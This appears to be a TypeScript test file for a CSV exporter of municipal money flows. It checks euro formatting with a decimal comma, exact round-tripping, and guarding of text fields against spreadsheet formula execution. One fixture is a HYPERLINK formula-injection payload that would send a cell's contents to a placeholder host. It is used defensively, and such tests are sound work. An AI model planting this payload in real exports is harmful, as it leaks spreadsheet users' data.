import { expect, it } from 'vitest';
import { centsToEuroText, moneyFlowsCsv, parseMoneyFlows } from './csv.js';
import { MAX_CENTS, parseEuros, type MoneyFlow } from './model.js';

const N1 = 'BU99990101';
const flow = (fields: Partial<MoneyFlow>): MoneyFlow => ({
  id: 'x', areaCode: N1, year: 2024, source: 'wmo', purpose: 'Huishoudelijke hulp', amountCents: 41_250_000, method: 'Beschikkingen maal tarief', certainty: 'estimated', figureSource: null, ...fields,
});
/** What the importer reads back of a file: the flows without their line and id. */
const readBack = (text: string) => {
  const { flows, problems } = parseMoneyFlows(text, (code) => code);
  expect(problems).toEqual([]);
  return flows.map(({ line: _line, ...f }) => ({ id: 'x', ...f }));
};

it('writes cents as euros with a decimal comma and two decimals, by moving digits, which the importer reads back exactly', () => {
  expect(centsToEuroText(1)).toBe('0,01');
  expect(centsToEuroText(50)).toBe('0,50');
  expect(centsToEuroText(100)).toBe('1,00');
  expect(centsToEuroText(123_400)).toBe('1234,00');
  expect(centsToEuroText(123_456_789)).toBe('1234567,89');
  expect(centsToEuroText(MAX_CENTS)).toBe('1000000000000,00');
  // Never a float: 0.29 * 100 is 28.999999999999996, 1.005 * 100 is 100.49999999999999.
  expect(centsToEuroText(29)).toBe('0,29');
  expect(centsToEuroText(100_5)).toBe('10,05');
  for (const cents of [1, 9, 10, 29, 99, 100, 101, 999, 1000, 1001, 123_456, 100_000_000, 987_654_321_012, MAX_CENTS - 1, MAX_CENTS]) {
    expect(parseEuros(centsToEuroText(cents))).toEqual({ ok: true, cents });
  }
  // Amounts are more than zero (use cases and importer); a negative one would be written as a number, and refused on import, never guessed.
  expect(centsToEuroText(-1234)).toBe('-12,34');
  expect(parseEuros('-12,34')).toEqual({ ok: false, problem: 'notPositive' });
  expect(() => centsToEuroText(1.5)).toThrow(RangeError);
});

it('writes flows as the file the importer reads back to the same flows: BOM, ";", CRLF, codes, and texts that are never formulas', () => {
  const flows = [
    flow({}),
    flow({ source: 'youth', purpose: '=HYPERLINK("http://example.com/?x="&A1,"Klik")', amountCents: 1, certainty: 'measured', figureSource: '@jaarrekening' }),
    flow({ source: 'other', purpose: '-', amountCents: 100, method: '- eerst tellen\r\n- dan vermenigvuldigen;\n"zo"', certainty: 'rough', figureSource: '+31 20 1234567' }),
    flow({ source: 'housing', purpose: "'=al met apostrof", amountCents: MAX_CENTS, method: "'s-Hertogenbosch, Café Ünïcode €", figureSource: 'a,b' }),
    flow({ areaCode: 'GM9999', year: 2025, source: 'subsidies', purpose: 'Stad breed', amountCents: 123_456_789, method: '+ opslag', certainty: 'estimated' }),
  ];
  const text = moneyFlowsCsv(flows);
  expect(text.startsWith('\uFEFFyear;area_code;source;purpose;amount_eur;method;certainty;figure_source\r\n')).toBe(true);
  expect(text.endsWith('\r\n')).toBe(true);
  expect(text).toContain(`\r\n2024;${N1};wmo;Huishoudelijke hulp;412500,00;Beschikkingen maal tarief;estimated;\r\n`);
  expect(text).toContain(`\r\n2024;${N1};youth;"'=HYPERLINK(""http://example.com/?x=""&A1,""Klik"")";0,01;Beschikkingen maal tarief;measured;'@jaarrekening\r\n`);
  expect(text).toContain(`\r\n2024;${N1};other;'-;1,00;"'- eerst tellen\r\n- dan vermenigvuldigen;\n""zo""";rough;'+31 20 1234567\r\n`);
  // No line or field of the file starts with a formula character outside a quoted, apostrophed cell.
  for (const line of text.split('\r\n')) for (const field of line.split(';')) expect(field).not.toMatch(/^"?[=+@]/);
  expect(readBack(text)).toEqual(flows);
  expect(moneyFlowsCsv(readBack(text))).toBe(text);
  // The amount is a number: were one ever negative, it would be written as a number, not guarded as a text.
  expect(moneyFlowsCsv([flow({ amountCents: -1234 })])).toContain(';Huishoudelijke hulp;-12,34;');
});
